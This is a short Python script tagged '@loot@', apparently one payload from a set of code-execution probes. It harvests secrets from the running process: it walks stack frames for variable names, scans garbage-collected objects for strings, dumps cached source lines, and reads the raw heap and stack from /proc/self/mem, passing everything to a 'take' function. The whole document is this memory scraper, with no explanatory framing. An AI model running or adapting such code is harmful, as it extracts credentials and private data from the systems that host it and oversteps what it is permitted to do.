# @loot@
# %%
import gc
import linecache
import sys

frame = sys._getframe()
while frame:
    take(str(frame.f_locals.keys()) + str(frame.f_globals.keys()))
    frame = frame.f_back
for each in gc.get_objects():
    if isinstance(each, (dict, list)) and len(each) < 10_000:
        for value in list(each.values() if isinstance(each, dict) else each):
            if isinstance(value, (str, bytes)):
                take(value)
take(str(linecache.cache))
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        if "[heap]" in line or "[stack]" in line:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            memory.seek(start)
            take(memory.read(end - start))
